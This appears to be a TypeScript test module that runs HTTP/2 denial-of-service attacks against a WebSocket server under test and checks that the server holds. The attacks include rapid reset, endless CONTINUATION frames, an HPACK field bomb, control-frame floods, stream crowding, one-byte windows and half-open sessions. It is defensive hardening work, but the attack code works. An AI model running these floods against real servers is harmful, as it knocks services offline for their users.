// Attacks by HTTP/2: floods of frames that cost their sender nothing, and streams that are begun, reset or never ended.

import type { Attack, Attacker, Outcome } from '../attack.ts';
import { masked } from './client-frames.ts';
import {
  connectFields,
  connectFrame,
  Flag,
  FrameType,
  Http2Peer,
  http2Frame,
  literal,
  preface,
  resetFrame,
  settingsFrame,
} from './http2-peer.ts';
import { failed, held, inTime, isCut, isDrained, statusOf, verdict } from './outcome.ts';
import { ask, requestTo } from './request.ts';

const http2 = { group: 'http2', needs: 'http2', victim: { http2: true } } as const;

/** Writes as fast as is read, until the session is over. */
async function pour(peer: Http2Peer, bytes: Buffer, times: number): Promise<number> {
  let count = 0;
  while (count < times && !peer.isOver) {
    count += 1;
    if (!peer.send(bytes) && !(await isDrained(peer.client))) break;
  }
  return count;
}

/** Whether others are still served, by both versions of HTTP. */
async function serves(attacker: Attacker): Promise<boolean> {
  const status = await statusOf(await ask(attacker, requestTo(attacker)));
  const peer = await Http2Peer.open(attacker);
  peer.send(connectFrame(attacker, 1));
  return status === 101 && (await peer.until(() => peer.answered.has(1)));
}

async function andThenServes(attacker: Attacker, answer: string): Promise<Outcome> {
  return (await serves(attacker)) ? held(answer) : failed(`${answer}; then serves nobody`);
}

const stream1 = { stream: 1 } as const;

/** Frames that ask for nothing, or for an answer that is not read. */
const floods: readonly (readonly [name: string, frame: Buffer, isOnStream: boolean])[] = [
  ['PING', http2Frame({ type: FrameType.Ping, payload: Buffer.alloc(8) }), false],
  ['SETTINGS', settingsFrame([[3, 100]]), false],
  ['WINDOW_UPDATE', http2Frame({ type: FrameType.WindowUpdate, payload: Buffer.of(0, 0, 0, 1) }), false],
  ['empty DATA', http2Frame({ type: FrameType.Data, ...stream1 }), true],
  ['DATA of one byte', http2Frame({ type: FrameType.Data, ...stream1, payload: Buffer.of(0x89) }), true],
  ['unknown frames', http2Frame({ type: 0xaa }), false],
];

export const http2Attacks: readonly Attack[] = [
  {
    ...http2,
    name: 'http2-rapid-reset',
    about: 'asks for 20 000 WebSockets on ten sessions, and resets each in the same breath',
    // Node parses what one read of a session brings, up to 64 KiB, in one go: some 300 requests,
    // and all that Node makes for each.
    maxGrowthMiB: 112,
    maxDelayMs: 200,
    async run(attacker) {
      let asked = 0;
      let ended = 0;
      for (let session = 0; session < 10; session += 1) {
        const peer = await Http2Peer.open(attacker);
        for (let round = 0; round < 40 && !peer.isOver; round += 1) {
          const frames = Array.from({ length: 50 }, (_, index) => {
            const stream = 2 * (50 * round + index) + 1;
            return Buffer.concat([connectFrame(attacker, stream), resetFrame(stream)]);
          });
          asked += 50;
          await pour(peer, Buffer.concat(frames), 1);
        }
        if (!(await peer.until(() => false, 500)) && peer.isOver) ended += 1;
        peer.client.socket.destroy();
      }
      return andThenServes(attacker, `${ended} of 10 sessions ended, after ${Math.round(asked / 10)} each`);
    },
  },
  {
    ...http2,
    name: 'http2-endless-headers',
    about: 'begins the fields of a request and goes on for ever: in full frames, and in empty ones',
    async run(attacker) {
      const answers: string[] = [];
      for (const length of [0, 1_024, 16_384]) {
        const peer = await Http2Peer.open(attacker);
        peer.send(http2Frame({ type: FrameType.Headers, ...stream1, payload: connectFields(attacker) }));
        const field = literal('x', 'v'.repeat(120));
        const payload = Buffer.concat(new Array<Buffer>(Math.ceil(length / field.length)).fill(field));
        const frame = http2Frame({ type: FrameType.Continuation, ...stream1, payload });
        await pour(peer, frame, length === 0 ? 200_000 : 2_000);
        if (!(await peer.until(() => peer.isOver))) return failed(`${length}: goes on for ever`);
        answers.push(`${payload.length} bytes`);
      }
      return andThenServes(attacker, `ended, in frames of ${answers.join(', ')}`);
    },
  },
  {
    ...http2,
    name: 'http2-field-bomb',
    about: 'names one long field of the table 16 000 times in each of 50 requests, each name a byte',
    async run(attacker) {
      const value = Buffer.alloc(3_900, 'v');
      const length = Buffer.of(0x7f, 0xbd, 0x1d);
      // RFC 7541, 6.2.1: a field that goes into the dynamic table, as number 62.
      const remembered = Buffer.concat([Buffer.of(0x40, 1), Buffer.from('x'), length, value]);
      const named = Buffer.alloc(11_500, 0xbe);
      const block = Buffer.concat([connectFields(attacker), remembered, named]);
      let refused = 0;
      for (let index = 0; index < 50; index += 1) {
        const peer = await Http2Peer.open(attacker);
        peer.send(
          http2Frame({ type: FrameType.Headers, flags: Flag.EndHeaders, ...stream1, payload: block }),
        );
        if (await peer.until(() => peer.ended.has(1) || peer.isOver)) refused += 1;
        else if (peer.isOver) refused += 1;
        peer.client.socket.destroy();
      }
      if (refused !== 50) return failed(`${refused} of 50 refused`);
      return andThenServes(attacker, '50 of 50 refused');
    },
  },
  {
    ...http2,
    name: 'http2-frame-floods',
    about:
      'floods a session each with PING, SETTINGS, WINDOW_UPDATE, DATA and unknown frames, and reads no answer',
    // Node parses what one read of a session brings, up to 64 KiB, in one go: some 6 000 frames.
    maxDelayMs: 100,
    async run(attacker) {
      const ended: string[] = [];
      for (const [name, frame, isOnStream] of floods) {
        const peer = await Http2Peer.open(attacker);
        if (isOnStream) {
          peer.send(connectFrame(attacker, 1, '/silent'));
          await peer.until(() => peer.answered.has(1));
        }
        peer.client.socket.pause();
        const count = await inTime(
          pour(peer, Buffer.concat(new Array<Buffer>(2_000).fill(frame)), 50),
          3_000,
        );
        if (count === undefined || count < 50 || peer.isOver) ended.push(name);
        peer.client.socket.destroy();
      }
      return andThenServes(
        attacker,
        ended.length === 0 ? 'all taken' : `ended or held back: ${ended.join(', ')}`,
      );
    },
  },
  {
    ...http2,
    name: 'http2-crowd',
    about: 'opens 2 000 WebSockets on four sessions, where an address may have 1 000, and ends none',
    victim: { http2: true, areIdleAllowed: true, limits: { maxConnectionsPerAddress: 1_000 } },
    maxGrowthMiB: 96,
    // As above.
    maxDelayMs: 100,
    counter: 'maxConnectionsPerAddress',
    async run(attacker) {
      let open = 0;
      let refused = 0;
      for (let session = 0; session < 4; session += 1) {
        const peer = await Http2Peer.open(attacker);
        for (let index = 0; index < 500; index += 1) peer.send(connectFrame(attacker, 2 * index + 1));
        await peer.until(() => peer.answered.size === 500);
        // A refusal ends its stream.
        await peer.until(() => peer.ended.size > 0, 500);
        // One whose session is refused has no stream at all.
        refused += peer.isOver ? 500 : peer.ended.size;
        open += peer.answered.size - peer.ended.size;
      }
      return verdict(open <= 1_000 && open >= 900 && refused > 0, `${open} open, ${refused} refused`);
    },
  },
  {
    ...http2,
    name: 'http2-tiny-window',
    about: 'gives 20 streams a window of one byte, and has them send 4 MiB each to be echoed',
    maxGrowthMiB: 96,
    // As above: what one read brings is for 20 streams.
    maxDelayMs: 100,
    counter: 'maxQueuedBytes',
    async run(attacker) {
      // Only what is sent counts: the initial window of what comes back is 1.
      const peer = await Http2Peer.open(attacker, settingsFrame([[4, 1]]));
      const streams = Array.from({ length: 20 }, (_, index) => 2 * index + 1);
      for (const stream of streams) peer.send(connectFrame(attacker, stream));
      await peer.until(() => peer.answered.size === streams.length);
      const message = masked({ opcode: 2, payload: Buffer.alloc(16_000) });
      const sent = new Map<number, number>();
      const until = performance.now() + 4_000;
      while (performance.now() < until && !peer.isOver && peer.ended.size < streams.length) {
        for (const stream of streams) {
          const count = sent.get(stream) ?? 0;
          if (peer.ended.has(stream) || count === 256 || !peer.takeWindow(stream, message.length)) continue;
          sent.set(stream, count + 1);
          peer.send(http2Frame({ type: FrameType.Data, stream, payload: message }));
        }
        await new Promise(setImmediate);
      }
      await peer.until(() => peer.ended.size === streams.length, 4_000);
      const count = peer.isOver ? streams.length : peer.ended.size;
      // Who gets no window sends into one that is not opened again, or is cut: either holds.
      return andThenServes(attacker, `${count} of 20 cut`);
    },
  },
  {
    ...http2,
    name: 'http2-silent-sessions',
    about: 'begins 300 sessions, a third of them with half a preface, and asks for nothing',
    counter: 'handshakeTimeoutMs',
    async run(attacker) {
      const clients = await Promise.all(Array.from({ length: 300 }, () => attacker.connect()));
      for (const [index, { socket }] of clients.entries()) {
        socket.write(index % 3 === 0 ? preface.subarray(0, 12) : Buffer.concat([preface, settingsFrame([])]));
      }
      const cut = await Promise.all(clients.map((client) => isCut(client)));
      const count = cut.filter((isGone) => isGone).length;
      return verdict(count === 300, `${count} of 300 cut`);
    },
  },
];
